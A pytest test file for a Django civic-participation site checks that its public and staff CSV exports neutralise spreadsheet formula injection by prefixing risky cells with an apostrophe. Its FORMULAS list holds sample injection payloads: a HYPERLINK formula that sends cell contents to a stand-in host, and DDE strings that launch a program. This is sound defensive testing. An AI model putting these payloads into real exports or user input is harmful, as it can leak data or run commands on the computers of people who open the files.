"""No CSV of the site hands a spreadsheet a formula: every text cell starting with =, +, -,
@, a tab or a carriage return is prefixed with an apostrophe, in the public open data and the
staff exports alike (one writer, ``forum_ouvert.core.spreadsheet``)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from forum_ouvert.core.choices import Role
from forum_ouvert.core.spreadsheet import FORMULA_START, safe_cell
from tests.cocreation.factories import ProposalFactory
from tests.contributions.factories import ContributionFactory
from tests.engagements.factories import (
    CommitmentFactory,
    JournalEntryFactory,
    MilestoneFactory,
    PlanFactory,
)
from tests.forum.factories import ApplicationFactory, CallFactory
from tests.workshops.factories import RegistrationFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://exemple.fr/?x="&A1;"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8-sig")
    delimiter = (
        ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    )
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _assert_no_formula(response, expected: int) -> None:
    assert response.status_code == 200
    cells = _cells(response)
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a formula cell is left"
    neutralised = [c for c in cells if c[:1] == "'" and c[1:].startswith(FORMULA_START)]
    assert len(neutralised) >= expected, cells


def test_public_open_data_csvs_neutralise_formulas(client):
    """engagements.csv, jalons.csv, journal.csv and contributions.csv keep the formulas typed
    into titles, justifications and contributions as text."""
    commitment = CommitmentFactory(plan=PlanFactory(), title=FORMULAS[0])
    for text in FORMULAS:
        MilestoneFactory(commitment=commitment, deliverable=text)
        JournalEntryFactory(commitment=commitment, justification=text + " justification")
        ContributionFactory(title=text, body=text)
    _assert_no_formula(client.get(reverse("engagements:export_commitments_csv")), 1)
    _assert_no_formula(client.get(reverse("engagements:export_milestones_csv")), len(FORMULAS))
    _assert_no_formula(client.get(reverse("engagements:export_journal_csv")), len(FORMULAS))
    _assert_no_formula(client.get(reverse("contributions:open_data_csv")), 2 * len(FORMULAS))


def test_cocreation_open_data_csvs_neutralise_formulas(client):
    """propositions.csv, versions.csv and amendements.csv keep formulas typed into a
    proposal or an amendment as text."""
    from participation.cocreation.models import Amendment

    for text in FORMULAS:
        proposal = ProposalFactory(submitted=True, problem=text, partners=text)
        Amendment.objects.create(
            proposal=proposal,
            section="problem",
            base_version=1,
            text=text,
            reason=text,
            author=proposal.author,
        )
    for name in ("open_data_proposals_csv", "open_data_versions_csv", "open_data_amendments_csv"):
        _assert_no_formula(client.get(reverse(f"cocreation:{name}")), 2 * len(FORMULAS))


def test_staff_exports_neutralise_formulas(client, make_user):
    """The AMI queue's and a workshop's registration exports do it too."""
    call = CallFactory(review=True)
    for n, text in enumerate(FORMULAS):
        ApplicationFactory(call=call, organisation_name=f"{text} Association {'abcdef'[n]}")
    registration = RegistrationFactory(mandate=FORMULAS[1], accessibility_need=FORMULAS[3])
    staff = make_user(Role.STAFF)
    client.force_login(staff)
    _assert_no_formula(client.get(reverse("forum:queue_export") + f"?appel={call.pk}"), 3)
    url = reverse("workshops:staff_registrations_csv", args=[registration.workshop.slug])
    _assert_no_formula(client.get(url), 2)


def test_numbers_are_left_alone():
    """A negative number stays a number; only text is prefixed."""
    assert safe_cell(-5) == -5
    assert safe_cell("-5") == "'-5"
    assert safe_cell(None) == ""
    assert safe_cell("Bonjour = salut") == "Bonjour = salut"
